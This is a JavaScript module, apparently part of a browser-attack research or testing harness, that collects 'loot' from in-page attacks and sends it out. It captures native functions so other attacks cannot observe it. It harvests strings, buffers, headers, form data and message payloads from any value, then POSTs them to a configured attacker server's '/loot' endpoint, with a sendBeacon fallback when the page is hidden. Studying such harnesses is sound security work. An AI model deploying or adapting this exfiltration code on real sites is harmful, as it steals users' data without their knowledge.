// The attacker's hand in the page: what an attack finds is kept here and sent to the attacker's server. It
// takes the browser's functions before any attack replaces them, so that no attack hears another's loot.

const { setTimeout, clearTimeout } = window;
const { apply, ownKeys, getOwnPropertyDescriptor } = Reflect;
const { isView } = ArrayBuffer;
const stringify = JSON.stringify.bind(JSON);
const send = window.fetch.bind(window);
const beacon = navigator.sendBeacon.bind(navigator);
const decoder = new TextDecoder();
const decode = decoder.decode.bind(decoder);
const NativePromise = Promise;
const { then } = Promise.prototype;

/** How much of one thing is looked at. */
const NODES = 300;
const LENGTH = 200_000;

/** What each attack holds, by its name. */
const held = new Map();
/** What of it is not sent yet. */
let unsent = [];
let timer;
let busy = false;
const open = new Set();

/**
 * Runs what may call replaced functions without their hearing of it.
 *
 * @param {() => unknown} act
 */
export function unheard(act) {
  if (busy) return undefined;
  busy = true;
  try {
    return act();
  } finally {
    busy = false;
  }
}

/**
 * Keeps every text in `value` and sends it to the attacker.
 *
 * @param {string} attack
 * @param {unknown} value
 */
export function loot(attack, value) {
  unheard(() => {
    const mine = held.get(attack) ?? new Set();
    held.set(attack, mine);
    for (const text of texts(value)) {
      if (mine.has(text)) continue;
      mine.add(text);
      unsent.push([attack, text]);
    }
    if (unsent.length > 0 && timer === undefined) timer = setTimeout(sendAll, 20);
  });
}

/** What all attacks hold: attack and text in turn. */
export function holdings() {
  return [...held].flatMap(([attack, mine]) => [...mine].flatMap((text) => [attack, text]));
}

/** Settles once everything that was found has arrived at the attacker. */
export async function arrived() {
  sendAll();
  while (open.size > 0) await NativePromise.all([...open]);
}

function sendAll() {
  unheard(() => {
    clearTimeout(timer);
    timer = undefined;
    if (unsent.length === 0) return;
    const body = stringify(unsent);
    unsent = [];
    const { attacker } = window.tw.settings;
    const sending = send(`${attacker}/loot`, { method: "POST", body });
    const over = () => open.delete(sending);
    open.add(sending);
    apply(then, sending, [over, over]);
  });
}

// What was found last must not be lost with the page.
addEventListener("pagehide", () => {
  unheard(() => {
    if (unsent.length > 0) beacon(`${window.tw.settings.attacker}/loot`, stringify(unsent));
    unsent = [];
  });
});

/**
 * @param {unknown} root
 * @returns {string[]} every text that is in it, as bytes too
 */
function texts(root) {
  const found = [];
  const seen = new WeakSet();
  const queue = [root];
  for (let i = 0; i < queue.length && i < NODES; i += 1) {
    const value = queue[i];
    if (typeof value === "string") found.push(value.slice(0, LENGTH));
    if (typeof value !== "object" || value === null || seen.has(value)) continue;
    if (value === window || value === document || value === window.tw) continue;
    seen.add(value);
    if (value instanceof ArrayBuffer || isView(value)) {
      try {
        found.push(decode(value).slice(0, LENGTH));
      } catch {
        // A buffer that was transferred has nothing.
      }
      continue;
    }
    if (value instanceof Blob) continue;
    if (value instanceof Error) queue.push(value.message, value.stack, value.cause);
    if (value instanceof Request || value instanceof Response) queue.push(value.url, value.headers);
    if (value instanceof MessageEvent) queue.push(value.data);
    if (value instanceof URL || value instanceof URLSearchParams) queue.push(`${value}`);
    if (value instanceof Headers || value instanceof FormData) queue.push([...value]);
    if (value instanceof Map || value instanceof Set) queue.push([...value]);
    for (const key of ownKeys(value)) {
      queue.push(key);
      const member = getOwnPropertyDescriptor(value, key);
      if (member && "value" in member) queue.push(member.value);
    }
  }
  return found;
}
